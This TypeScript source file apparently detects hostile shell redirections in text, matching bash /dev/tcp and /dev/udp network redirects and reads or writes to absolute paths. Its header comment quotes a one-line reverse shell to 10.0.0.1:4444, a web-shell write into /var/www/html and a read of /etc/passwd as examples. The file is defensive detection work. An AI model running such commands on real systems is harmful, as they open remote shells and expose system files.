// Redirections: bash's /dev/tcp and /dev/udp pseudo-files (a reverse shell in one line, `bash -i >&
// /dev/tcp/10.0.0.1/4444 0>&1`), and output written to or input read from an absolute path
// (`> /var/www/html/shell.php`, `< /etc/passwd`), which is how a blind injection leaves a web shell.

const DEVICES = ['/dev/tcp/', '/dev/udp/'];
const MAX_TARGET = 120;

/** The `/dev/tcp/host/port` (or udp) reference followed by a host, or undefined. */
export function findNetworkRedirect(text: string): string | undefined {
  for (const device of DEVICES) {
    const at = text.indexOf(device);
    if (at !== -1 && at + device.length < text.length && text.charCodeAt(at + device.length) > 32) return text.slice(at, at + 60);
  }
  return undefined;
}

/** A `>`, `>>`, `2>`, `&>` or `<` whose target is an absolute path with a directory, or undefined. */
export function findRedirection(text: string): string | undefined {
  for (let index = text.indexOf('>'); index !== -1; index = text.indexOf('>', index + 1)) {
    if (isOperator(text, index)) {
      const target = readTarget(text, index + 1);
      if (target !== undefined && target !== '/dev/null') return text.slice(index, index + 1 + MAX_TARGET).trimEnd();
    }
  }
  for (let index = text.indexOf('<'); index !== -1; index = text.indexOf('<', index + 1)) {
    if (isOperator(text, index) && readTarget(text, index + 1) !== undefined) return text.slice(index, index + 1 + MAX_TARGET).trimEnd();
  }
  return undefined;
}

/** Not `->`, `=>`, `>=`, `<=`, `<-`, `<<` or HTML (`<div`, `</p>`): those are code and markup. */
function isOperator(text: string, index: number): boolean {
  const before = text.charCodeAt(index - 1);
  const after = text.charCodeAt(index + 1);
  if (before === 45 || before === 61 || after === 61) return false;
  if (text.charCodeAt(index) === 60) return after !== 60 && after !== 45 && !isLetter(after) && after !== 33;
  return true;
}

/** The absolute path after the operator (skipping `>`, `&` and spaces) when it has a directory. */
function readTarget(text: string, from: number): string | undefined {
  let index = from;
  while (index < text.length && index - from < 4 && (text.charCodeAt(index) === 62 || text.charCodeAt(index) === 38 || text.charCodeAt(index) === 32)) index++;
  const start = index;
  const first = text.charCodeAt(start);
  const isWindows = isLetter(first) && text.charCodeAt(start + 1) === 58 && text.charCodeAt(start + 2) === 92;
  if (first !== 47 && !isWindows) return undefined;
  let separators = 0;
  while (index < text.length && index - start < MAX_TARGET) {
    const code = text.charCodeAt(index);
    if (code <= 32 || code === 62 || code === 60 || code === 59 || code === 124 || code === 38 || code === 39 || code === 34) break;
    if (code === 47 || code === 92) separators++;
    index++;
  }
  // `</div>` reads `/div` and stops at `>`: one separator, no directory.
  if (separators < 2 || text.charCodeAt(index) === 62) return undefined;
  return text.slice(start, index);
}

function isLetter(code: number): boolean {
  return (code >= 65 && code <= 90) || (code >= 97 && code <= 122);
}
